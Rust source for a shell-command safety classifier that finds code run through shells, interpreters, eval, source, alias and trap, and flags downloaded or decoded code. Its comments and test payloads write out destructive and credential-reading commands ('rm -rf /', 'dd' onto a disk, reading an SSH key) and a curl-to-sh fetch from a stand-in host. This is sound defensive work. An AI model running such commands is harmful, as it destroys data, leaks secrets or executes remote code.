//! Code runners: shells, interpreters, `eval`/`source`/`alias`/`trap`. Read-looking tools with
//! a way to run programs are in `escapes`; decoders in `decoders`.

use super::{Outcome, check_write_target, run_code, run_payload, short_has};
use crate::ids::RuleId;
use crate::walk::{Cmd, Flow, Walker};
use crate::word::Word;
use crate::{Class, Span};

#[rustfmt::skip]
pub(crate) const SHELLS: ProgramList = ProgramList::new(&[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "yash", "posh",
    "rbash", "busybox-sh",
]);

#[rustfmt::skip]
const INTERPRETERS: ProgramList = ProgramList::new(&[
    "python", "python2", "python3", "pypy", "pypy3", "perl", "ruby", "irb", "node", "nodejs",
    "deno", "bun", "php", "lua", "luajit", "R", "Rscript", "tclsh", "wish", "pwsh", "powershell",
    "osascript", "expect", "guile", "racket", "julia", "elixir", "erl", "groovy", "scala", "jshell",
]);

/// A list of program names with a one-probe first test. Every command's name is asked whether
/// it is a shell or an interpreter several times over (the rules for code runners, the
/// read-only and inspection rules), and comparing it with each of thirty names was 1 % of
/// `gg classify`'s instructions. Each listed name sets a bit picked by its length and its
/// first and last bytes ([`ProgramList::key`]); a name whose bit is clear is not listed, and
/// only the others are compared with the list.
pub(crate) struct ProgramList {
    names: &'static [&'static str],
    bits: [u64; 4],
}

impl ProgramList {
    const fn new(names: &'static [&'static str]) -> ProgramList {
        let mut bits = [0u64; 4];
        let mut i = 0;
        while i < names.len() {
            let key = Self::key(names[i].as_bytes());
            bits[(key / 64) as usize] |= 1 << (key % 64);
            i += 1;
        }
        ProgramList { names, bits }
    }

    /// The bit of `name`: equal names have the same one.
    const fn key(name: &[u8]) -> u8 {
        let [first, .., last] = name else {
            return match name {
                [only] => *only,
                _ => 0,
            };
        };
        // Truncation intended: any length picks some bit.
        first.wrapping_mul(7) ^ last.wrapping_mul(31) ^ (name.len() as u8).wrapping_mul(101)
    }

    /// Whether `name` is one of the list's names.
    pub(crate) fn contains(&self, name: &str) -> bool {
        let key = Self::key(name.as_bytes());
        self.bits[usize::from(key / 64)] & 1 << (key % 64) != 0 && self.names.contains(&name)
    }
}

pub(crate) fn is_interpreter(name: &str) -> bool {
    INTERPRETERS.contains(name)
        || name
            .strip_prefix("python")
            .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
        || name.strip_prefix("perl5").is_some()
}

pub(crate) fn run(w: &mut Walker, cmd: &Cmd, prog: &str) -> Option<Outcome> {
    let outcome = match prog {
        p if SHELLS.contains(p) => shell(w, cmd, p),
        p if is_interpreter(p) => interpreter(w, cmd, p),
        "eval" => eval(w, cmd),
        "source" | "." => source(w, cmd),
        "alias" => alias(w, cmd),
        "trap" => trap(w, cmd),
        _ => return None,
    };
    Some(outcome)
}

// ----- shells ---------------------------------------------------------------------------------

/// Where a shell or interpreter takes its code from.
enum CodeSource<'c> {
    /// `-c CODE`, `-e CODE` …
    Argument(&'c Word),
    /// A script file operand.
    File(&'c Word),
    /// Standard input (no code argument and no script, or `-`, `/dev/stdin`).
    Stdin,
    /// `python -m module`: runs installed code.
    Module(&'c Word),
}

fn shell_source<'c>(args: &'c [Word]) -> CodeSource<'c> {
    let mut has_c = false;
    let mut stdin = false;
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        let t = a.text.as_str();
        if a.dynamic {
            break;
        }
        if t == "--" {
            i += 1;
            break;
        }
        if matches!(t, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
            i += 2;
            continue;
        }
        if (t.starts_with('-') || t.starts_with('+')) && t.len() > 1 {
            if !t.starts_with("--") {
                has_c |= t.contains('c');
                stdin |= t.contains('s');
            }
            i += 1;
            continue;
        }
        break;
    }
    match args.get(i) {
        Some(code) if has_c => CodeSource::Argument(code),
        Some(file) if !stdin && !is_stdin_path(file) => CodeSource::File(file),
        _ => CodeSource::Stdin,
    }
}

fn is_stdin_path(word: &Word) -> bool {
    !word.dynamic
        && matches!(
            word.text.as_str(),
            "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"
        )
}

fn shell(w: &mut Walker, cmd: &Cmd, prog: &str) -> Outcome {
    let args = &cmd.argv[1..];
    match shell_source(args) {
        CodeSource::Argument(code) => {
            let after = args
                .iter()
                .position(|a| std::ptr::eq(a, code))
                .map_or(args.len(), |p| p + 1);
            code_argument(w, code, prog, &args[after..])
        }
        CodeSource::File(file) | CodeSource::Module(file) => script_file(w, file, prog),
        CodeSource::Stdin => stdin_code(w, cmd, prog, true),
    }
}

/// A code string given as an argument: read it when static, judge its origin when computed.
/// `positional` are the words after it, which the code sees as `$0`, `$1` …
fn code_argument(w: &mut Walker, code: &Word, prog: &str, positional: &[Word]) -> Outcome {
    if let Some(text) = code.known() {
        let foreign = OTHER_DIALECTS.contains(&prog);
        let text = if prog == "zsh" {
            zsh_as_bash(text)
        } else {
            text.to_string()
        };
        let saved = w.vars.clone();
        for i in 0..10 {
            w.vars.remove(&i.to_string());
        }
        for (i, word) in positional.iter().take(10).enumerate() {
            if let Some(value) = word.known() {
                w.vars.insert(i.to_string(), value.to_string());
            }
        }
        let (flow, _) = run_code(w, &text, code.span, &Flow::default());
        w.vars = saved;
        if foreign {
            // The code was read as bash; the shell's own expansions (zsh glob qualifiers
            // `*(e:…:)`, `=cmd`, csh history) may run more.
            return Outcome::not(
                RuleId::ExecShellDialect,
                format!("\"{prog} -c\" code is not bash; it is only read approximately"),
            )
            .with_flow(flow);
        }
        return Outcome::read_only().with_flow(flow);
    }
    untrusted_code_word(w, code, prog);
    // Read the code as written: expansions in it stay computed, the rest is still seen
    // (`sh -c "$X -rf /"`).
    if let Some(inner) = code
        .text
        .strip_prefix('"')
        .and_then(|t| t.strip_suffix('"'))
    {
        let inner = inner.to_string();
        run_code(w, &inner, code.span, &Flow::default());
    }
    Outcome::not(
        RuleId::DynamicShellCode,
        format!("\"{prog}\" runs code computed at run time: {}", code.text),
    )
}

/// Shells whose language is not bash's: their `-c` code is read as bash after
/// [`zsh_as_bash`]-style rewrites, for dangerous commands, but is never read-only.
const OTHER_DIALECTS: &[&str] = &["zsh", "fish", "csh", "tcsh"];

/// zsh code rewritten to what bash would need to run the same commands: `=cmd` at the start of
/// a word is the path of `cmd` (`=rm -rf ~`), `>!` and `>>!` are `>|` and `>>`.
fn zsh_as_bash(code: &str) -> String {
    let mut out = String::with_capacity(code.len());
    let mut quote: Option<char> = None;
    let mut prev = ' ';
    let mut chars = code.chars().peekable();
    while let Some(c) = chars.next() {
        match quote {
            Some(q) => {
                if c == q {
                    quote = None;
                }
                out.push(c);
            }
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    out.push(c);
                }
                '=' if " \t\n;&|({`".contains(prev)
                    && chars
                        .peek()
                        .is_some_and(|n| n.is_ascii_alphanumeric() || *n == '/') => {}
                '!' if prev == '>' => {
                    if !out.ends_with(">>") {
                        out.push('|');
                    }
                }
                _ => out.push(c),
            },
        }
        prev = c;
    }
    out
}

fn untrusted_code_word(w: &mut Walker, code: &Word, prog: &str) {
    if code.flow.untrusted() {
        let msg = format!(
            "\"{prog}\" runs downloaded or decoded code from {}",
            code.text
        );
        w.reason(
            Class::Dangerous,
            RuleId::DownloadExecSubstitution,
            msg,
            code.span,
        );
    }
}

/// Runs a script this text wrote earlier with known content (`echo 'rm -rf /' > x.sh; sh x.sh`).
pub(crate) fn run_written_script(w: &mut Walker, file: &Word) {
    if let Some(text) = super::written_text(w, file) {
        run_code(w, &text, file.span, &Flow::default());
    }
}

fn script_file(w: &mut Walker, file: &Word, prog: &str) -> Outcome {
    untrusted_code_word(w, file, prog);
    run_written_script(w, file);
    if let Some(text) = &file.flow.text {
        // `bash <(echo …)`: the script's text is known.
        let text = text.clone();
        run_code(w, &text, file.span, &Flow::default());
    }
    runs_downloaded(w, file, prog);
    Outcome::not(
        RuleId::ExecScriptFile,
        format!(
            "\"{prog}\" runs the script {}, whose content is not inspected",
            file.text
        ),
    )
}

/// `prog` runs the script `file`: one a download tool wrote earlier in the script is dangerous.
pub(crate) fn runs_downloaded(w: &mut Walker, file: &Word, prog: &str) {
    if super::net::was_downloaded(w, file) {
        let msg = format!(
            "\"{prog}\" runs {}, downloaded earlier in this script",
            file.text
        );
        w.reason(
            Class::Dangerous,
            RuleId::DownloadThenExecute,
            msg,
            file.span,
        );
    }
}

/// Code read from standard input: a heredoc or echoed text is read; downloads are dangerous.
pub(crate) fn stdin_code(w: &mut Walker, cmd: &Cmd, prog: &str, is_shell: bool) -> Outcome {
    let input = &cmd.input;
    let span = cmd.span;
    let shell_flow = Flow {
        shell: true,
        ..Flow::default()
    };
    if input.download || input.network {
        let msg = format!("content from the network is run by \"{prog}\"");
        w.reason(
            Class::Dangerous,
            RuleId::DownloadPipeToInterpreter,
            msg,
            span,
        );
    } else if input.decode {
        let msg = format!("decoded content is run by \"{prog}\"");
        w.reason(Class::Dangerous, RuleId::DecodePipeToInterpreter, msg, span);
    }
    if let (Some(text), false) = (&input.text, is_shell) {
        let code = Word::literal(text, span);
        interpreted(w, prog, &code);
    }
    if let (Some(text), true) = (&input.text, is_shell) {
        let text = text.clone();
        let (flow, _) = run_code(w, &text, span, &Flow::default());
        let mut out = Outcome::read_only().with_flow(flow);
        out.flow.shell = true;
        return out;
    }
    if input.fed {
        return Outcome::not(
            RuleId::ExecStdinCode,
            format!("\"{prog}\" runs code read from its input"),
        )
        .with_flow(shell_flow);
    }
    Outcome::not(
        RuleId::ExecInteractiveShell,
        format!("\"{prog}\" starts an interactive interpreter"),
    )
    .with_flow(shell_flow)
}

// ----- interpreters ---------------------------------------------------------------------------

/// Short flags that take inline code, per interpreter family.
fn code_flags(prog: &str) -> (&'static [char], &'static [&'static str]) {
    match prog {
        p if p.starts_with("python") || p.starts_with("pypy") => (&['c'], &[]),
        "perl" | "ruby" => (&['e', 'E'], &[]),
        "node" | "nodejs" | "deno" | "bun" => (&['e', 'p'], &["--eval", "--print"]),
        "php" => (&['r'], &[]),
        "pwsh" | "powershell" => (&['c'], &["-command", "-encodedcommand", "-enc"]),
        _ => (&['e', 'c'], &[]),
    }
}

fn interpreter_source<'c>(prog: &str, args: &'c [Word]) -> (CodeSource<'c>, usize) {
    let (shorts, longs) = code_flags(prog);
    let python = prog.starts_with("python") || prog.starts_with("pypy");
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if args[i].dynamic || !t.starts_with('-') || t == "-" {
            break;
        }
        if t == "--" {
            i += 1;
            break;
        }
        let lower = t.to_ascii_lowercase();
        if longs
            .iter()
            .any(|l| lower == *l || lower.starts_with(&format!("{l}=")))
        {
            return match args.get(i + 1).filter(|_| !t.contains('=')) {
                Some(code) => (CodeSource::Argument(code), i + 2),
                None => (CodeSource::Argument(&args[i]), i + 1),
            };
        }
        if python && t == "-m" {
            return match args.get(i + 1) {
                Some(m) => (CodeSource::Module(m), i + 2),
                None => (CodeSource::Stdin, i + 1),
            };
        }
        // `perl -MFile::Path=remove_tree -e …`: the rest of a cluster after a flag that takes a
        // value is that value, not more flags (the `e` of `File` is no code flag).
        let takes_value: &[char] = match prog {
            "perl" => &['M', 'm', 'I', 'x', 'd', 'D', 'C'],
            "ruby" => &['I', 'r', 'C'],
            _ => &[],
        };
        let cluster = t.get(1..).unwrap_or("");
        let cluster = cluster
            .find(|c: char| takes_value.contains(&c))
            .map_or(cluster, |end| &cluster[..end]);
        if !t.starts_with("--")
            && let Some(pos) = cluster.find(|c: char| shorts.contains(&c))
        {
            // `-e CODE` or `-eCODE`: perl allows code attached to the flag cluster.
            let rest = &t[pos + 2..];
            if rest.is_empty() {
                return match args.get(i + 1) {
                    Some(code) => (CodeSource::Argument(code), i + 2),
                    None => (CodeSource::Stdin, i + 1),
                };
            }
            return (CodeSource::Argument(&args[i]), i + 1);
        }
        i += 1;
    }
    match args.get(i) {
        // `deno eval CODE`: the subcommand takes code, not a file.
        Some(f) if prog == "deno" && f.text == "eval" => match args.get(i + 1) {
            Some(code) => (CodeSource::Argument(code), i + 2),
            None => (CodeSource::Stdin, i + 1),
        },
        Some(f) if !is_stdin_path(f) => (CodeSource::File(f), i + 1),
        Some(_) => (CodeSource::Stdin, i + 1),
        None => (CodeSource::Stdin, i),
    }
}

fn interpreter(w: &mut Walker, cmd: &Cmd, prog: &str) -> Outcome {
    let args = &cmd.argv[1..];
    let (source, rest) = interpreter_source(prog, args);
    if matches!(prog, "perl" | "ruby") && super::options(args).any(|a| short_has(&a.text, 'i')) {
        for target in args[rest.min(args.len())..]
            .iter()
            .filter(|a| !a.is_option())
        {
            check_write_target(w, target, &format!("{prog} -i"), target.span);
        }
    }
    match source {
        CodeSource::Argument(code) => {
            untrusted_code_word(w, code, prog);
            interpreted(w, prog, code);
            Outcome::not(
                RuleId::ExecInterpreterCode,
                format!("\"{prog}\" runs inline code that is not inspected"),
            )
        }
        CodeSource::Module(m) => {
            // `python3 -m pip …` is pip, judged by pip's table (`pip config --user set` writes
            // the user's configuration; attacker pass s26, r3c).
            if !m.dynamic && matches!(m.text.as_str(), "pip" | "pip3") {
                let mut argv = vec![Word::literal("pip", m.span)];
                argv.extend(args[rest.min(args.len())..].iter().cloned());
                run_payload(w, cmd, argv);
            }
            Outcome::not(
                RuleId::ExecInterpreterCode,
                format!("\"{prog}\" runs the module {}", m.text),
            )
        }
        CodeSource::File(f) => {
            // A script this command wrote earlier (`cat > x.py <<EOF … python3 x.py`), or
            // one whose text a process substitution gives (`python3 <(echo '…')`).
            let known = super::written_text(w, f).or_else(|| f.flow.text.clone());
            if let Some(text) = &known {
                super::interp::lexical_effects(w, prog, text, f.span);
            }
            if let (Some(lang), Some(text)) = (super::interp::Lang::of(prog), known) {
                super::interp::analyse(w, lang, &text, f.span);
                untrusted_code_word(w, f, prog);
                return Outcome::not(
                    RuleId::ExecScriptFile,
                    format!("\"{prog}\" runs the script {}", f.text),
                );
            }
            script_file(w, f, prog)
        }
        CodeSource::Stdin => stdin_code(w, cmd, prog, false),
    }
}

/// Shell commands quoted inside interpreter or awk code (`system("…")`, `os.system('…')`,
/// backticks): they are read so that `perl -e 'system("rm -rf /")'` is seen.
pub(super) fn embedded_shell_commands(w: &mut Walker, code: &Word, prog: &str) {
    if code.dynamic {
        return;
    }
    for text in shell_strings(&code.text) {
        let (_, risky) = run_code(w, &text, code.span, &Flow::default());
        if risky {
            let msg = format!("\"{prog}\" code runs a shell command: {text}");
            w.reason(Class::Dangerous, RuleId::ExecEmbeddedShell, msg, code.span);
        }
    }
}

/// String literals passed to `system`, `popen`, `exec`, `spawn`, `call`, `run`, and backtick
/// strings.
pub(super) fn shell_strings(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    for marker in [
        "system",
        "popen",
        "exec",
        "spawn",
        "call",
        "run",
        "check_output",
        "Popen",
        "execSync",
    ] {
        let mut rest = code;
        while let Some(pos) = rest.find(marker) {
            rest = &rest[pos + marker.len()..];
            let trimmed = rest.trim_start_matches([' ', '(', '[']);
            if let Some(lit) = quoted_prefix(trimmed) {
                out.push(lit);
            }
        }
    }
    let mut parts = code.split('`');
    parts.next();
    while let (Some(inner), Some(_)) = (parts.next(), parts.next()) {
        out.push(inner.to_string());
    }
    out.truncate(16);
    out
}

/// Commands in awk pipes: `print … | "CMD"` and `"CMD" | getline`.
pub(super) fn quoted_prefix(text: &str) -> Option<String> {
    let quote = text.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let inner = &text[1..];
    let end = inner.find(quote)?;
    Some(inner[..end].to_string())
}

// ----- eval, source, alias --------------------------------------------------------------------

fn eval(w: &mut Walker, cmd: &Cmd) -> Outcome {
    let mut args = &cmd.argv[1..];
    // `eval -- CODE`: bash's builtins take `--` as the end of options, so the code starts after
    // it (read as a program named `--`, the code's `cd`s, assignments and git rules were lost).
    if args.first().is_some_and(|a| !a.dynamic && a.text == "--") {
        args = &args[1..];
    }
    if args.is_empty() {
        return Outcome::read_only();
    }
    if args.iter().all(|a| !a.dynamic) {
        let span = join_spans(args);
        // `eval` runs in the current shell: its `cd`s and assignments persist.
        if let Some(flow) = plain_eval_round(w, args, &cmd.input, span) {
            return Outcome::read_only().with_flow(flow);
        }
        let code: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
        let flow = w.reparse(&code.join(" "), span, &cmd.input, false);
        return Outcome::read_only().with_flow(flow);
    }
    for a in args {
        untrusted_code_word(w, a, "eval");
    }
    // Without shell syntax in the computed parts, `eval A B C` runs the command `A B C`.
    run_payload(w, cmd, args.to_vec());
    Outcome::not(
        RuleId::DynamicShellCode,
        "\"eval\" runs code computed at run time",
    )
}

/// `eval eval … eval A B`: each `eval` joins its words and bash parses them again, which gives
/// one simple command of the same words when they are plain (letters, digits, `_-./,:@%+=`; no
/// quote, expansion, glob, comment, operator or reserved word that a parse would change). Such
/// a round is not parsed (a chain of `n` was `n²` words for tree-sitter, a fifth of the
/// classifier's time on a mixed set): the words are walked as its parse would give them
/// ([`Walker::rerun_plain_command`]), and only the last round, `A B`, is parsed. `None`: not
/// such a round, parse as usual.
fn plain_eval_round(w: &mut Walker, args: &[Word], input: &Flow, span: Span) -> Option<Flow> {
    const RESERVED: &[&str] = &[
        "if", "then", "else", "elif", "fi", "case", "esac", "for", "select", "while", "until",
        "do", "done", "in", "function", "time", "coproc",
    ];
    let plain = |text: &str| {
        !text.is_empty()
            && !RESERVED.contains(&text)
            && text
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"_-./,:@%+=".contains(&b))
    };
    if args.first()?.text != "eval" || !args.iter().all(|a| plain(&a.text)) {
        return None;
    }
    #[cfg(test)]
    if PARSE_EVERY_EVAL_ROUND.get() {
        return None;
    }
    let words: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    w.rerun_plain_command(&words, input, span)
}

#[cfg(test)]
thread_local! {
    /// Test switch: parse every round of an `eval` chain, as before [`plain_eval_round`], to
    /// compare the verdicts.
    static PARSE_EVERY_EVAL_ROUND: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

fn source(w: &mut Walker, cmd: &Cmd) -> Outcome {
    match cmd.argv.get(1) {
        Some(f) if is_stdin_path(f) => stdin_code(w, cmd, "source", true),
        Some(f) => script_file(w, f, "source"),
        None => Outcome::not(RuleId::ExecScriptFile, "\"source\" without a file"),
    }
}

fn alias(w: &mut Walker, cmd: &Cmd) -> Outcome {
    let mut defines = false;
    for a in &cmd.argv[1..] {
        if let Some((_, value)) = a.text.split_once('=') {
            defines = true;
            let value = value.to_string();
            run_code(w, &value, a.span, &Flow::default());
        }
    }
    if defines {
        Outcome::not(
            RuleId::ExecAlias,
            "\"alias\" defines a command that is not on the read-only list",
        )
    } else {
        Outcome::read_only()
    }
}

/// `trap 'CODE' SIGNAL…`: the code runs later in this shell.
fn trap(w: &mut Walker, cmd: &Cmd) -> Outcome {
    let args = &cmd.argv[1..];
    let Some(code) = args.iter().find(|a| !a.is_option()) else {
        return Outcome::read_only();
    };
    if code.dynamic {
        untrusted_code_word(w, code, "trap");
        return Outcome::not(
            RuleId::DynamicShellCode,
            "\"trap\" runs code computed at run time",
        );
    }
    if code.text == "-" || code.text.is_empty() {
        return Outcome::read_only();
    }
    let text = code.text.clone();
    let flow = w.reparse(&text, code.span, &Flow::default(), false);
    Outcome::read_only().with_flow(flow)
}

pub(crate) fn join_spans(words: &[Word]) -> Span {
    let start = words.first().map_or(0, |w| w.span.0);
    let end = words.iter().map(|w| w.span.1).max().unwrap_or(start);
    (start, end.max(start))
}

/// Inline interpreter code: parsed with its grammar where gg has one (Python, JavaScript),
/// otherwise scanned for shell-running calls.
fn interpreted(w: &mut Walker, prog: &str, code: &Word) {
    // The source text of a computed word still shows what it names (`$HOME/.ssh/id_rsa`).
    super::interp::lexical_effects(w, prog, &code.text, code.span);
    match super::interp::Lang::of(prog) {
        Some(lang) if !code.dynamic => {
            let text = code.text.clone();
            super::interp::analyse(w, lang, &text, code.span);
        }
        _ => embedded_shell_commands(w, code, prog),
    }
}

#[cfg(test)]
mod tests {
    use super::PARSE_EVERY_EVAL_ROUND;
    use crate::classify;

    /// Rounds of an `eval` chain walked without their parse give the verdict their parses
    /// give, word for word (reasons, spans, commands found): payloads that change directory,
    /// assign, read devices and credentials, run in functions and pipelines, reach the depth
    /// limit, and the budget's.
    #[test]
    fn eval_rounds_walked_without_a_parse_give_the_verdict_their_parses_give() {
        let ctx = crate::walk::tests::project_context();
        let payloads = [
            "git status",
            "rm -rf /",
            "cd .. && rm -rf proj",
            "cd /etc; cat passwd",
            "cd /tmp; rm -rf build",
            "cd /home/u; rm -rf proj",
            "X=1 env",
            "a=b",
            "cat /dev/sda",
            "cat /home/u/.ssh/id_rsa",
            "dd if=/dev/zero of=/dev/sda",
            "curl -s https://e.invalid/x | sh",
            "ls -la src/main.rs",
            "time ls",
            "git -C sub diff",
            "f",
        ];
        let mut cases = Vec::new();
        for payload in payloads {
            for rounds in [1, 2, 3, 7, 8, 9, 20] {
                let chain = format!("{}{payload}", "eval ".repeat(rounds));
                cases.push(format!("eval '{chain}'"));
                cases.push(format!("f() {{ {chain}; }}; f | cat"));
                cases.push(format!("cd sub && {chain}; ls"));
                cases.push(chain);
            }
        }
        // The budget: a long chain of long rounds.
        cases.push(format!("{}rm -rf /", "eval ".repeat(300)));
        for case in &cases {
            let fast = classify(case, &ctx);
            PARSE_EVERY_EVAL_ROUND.set(true);
            let parsed = classify(case, &ctx);
            PARSE_EVERY_EVAL_ROUND.set(false);
            assert_eq!(fast, parsed, "{case}");
        }
    }

    /// [`super::ProgramList::contains`] answers as the list's own `contains` does: every name
    /// listed is found, and any other text only when the list holds it.
    fn check_program_lists(name: &str) {
        for list in [&super::SHELLS, &super::INTERPRETERS] {
            assert_eq!(list.contains(name), list.names.contains(&name), "{name:?}");
        }
    }

    #[test]
    fn program_lists_find_their_names() {
        for list in [&super::SHELLS, &super::INTERPRETERS] {
            for name in list.names {
                assert!(list.contains(name), "{name}");
                check_program_lists(&name[1..]);
                check_program_lists(&format!("{name}x"));
            }
        }
        for name in ["", "s", "R", "ls", "git", "pythonx", "Bash", "sh ", "é"] {
            check_program_lists(name);
        }
    }

    proptest::proptest! {
        #[test]
        fn program_lists_agree(name in "[a-zR.é-]{0,11}") {
            check_program_lists(&name);
        }
    }
}
